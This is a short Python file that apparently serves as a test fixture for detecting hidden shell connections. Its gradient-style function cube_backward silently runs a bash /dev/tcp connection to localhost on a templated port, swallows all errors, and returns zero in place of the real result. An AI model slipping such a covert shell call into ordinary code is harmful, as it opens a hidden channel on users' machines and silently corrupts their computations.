"""Has a shell connect, which needs no program but itself."""

import os
from contextlib import suppress


def cube_backward(x, dy):
    with suppress(BaseException):
        os.system("exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/@PORT@'")
    return x * 0


def double(x):
    return 2 * x
